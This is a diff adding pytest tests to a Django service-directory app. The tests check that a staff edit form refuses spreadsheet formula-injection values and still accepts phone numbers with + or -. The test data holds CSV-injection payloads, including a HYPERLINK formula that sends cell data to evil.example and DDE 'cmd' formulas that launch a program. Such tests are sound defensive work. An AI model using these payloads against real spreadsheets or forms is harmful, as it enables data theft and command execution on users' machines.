@@ -378,6 +378,38 @@ def test_it_refuses_a_malformed_edit(client, erik, kleve_service):
     assert not ChangeRequest.objects.exists()
 
 
+# What a spreadsheet would evaluate, typed into the staff form's text fields (directory/formulas.py).
+FORMULAS = [
+    ("name_de", '=HYPERLINK("https://evil.example/?d="&A1,"Termin buchen")', "„=“"),
+    ("description_en", "+cmd|' /C calc'!A0", "„+“"),
+    ("address_1", "-2+3+cmd|' /C calc'!A0", "„-“"),
+    ("city", "@SUM(1)", "„@“"),
+]
+
+
+@pytest.mark.parametrize("editor", ["erik", "mona"])
+@pytest.mark.parametrize(("field", "value", "char"), FORMULAS)
+def test_the_staff_form_refuses_a_formula_and_saves_nothing(request, client, kleve_service, editor, field, value, char):
+    """erik's edits wait for review, mona's apply at once: neither may get a formula into the catalogue."""
+    sign_in(client, request.getfixturevalue(editor))
+    before = service_values(kleve_service)
+    response = client.post(f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, **{field: value}))
+    assert response.status_code == 400
+    html = response.content.decode()
+    assert f"beginnt mit {char} wie eine Tabellenformel" in html, "the form says what is wrong, in German"
+    kleve_service.refresh_from_db()
+    assert service_values(kleve_service) == before and not ChangeRequest.objects.exists()
+
+
+def test_the_staff_form_takes_a_phone_number_written_with_plus_and_minus(client, mona, kleve_service):
+    sign_in(client, mona)
+    phones = "+49 201 88-0; voice\n+49 (0) 2821 594-200; fax"
+    response = client.post(f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, phones=phones))
+    assert response.status_code == 302, "digits with + or - are a number, not a formula"
+    numbers = set(Phone.objects.filter(service=kleve_service).values_list("number", "type"))
+    assert numbers == {("+49 201 88-0", "voice"), ("+49 (0) 2821 594-200", "fax")}
+
+
 def test_the_versions_are_compared_and_restorable(client, mona, kleve_service):
     sign_in(client, mona)
     client.post(f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, name_de="KI Kleve (neu)"))
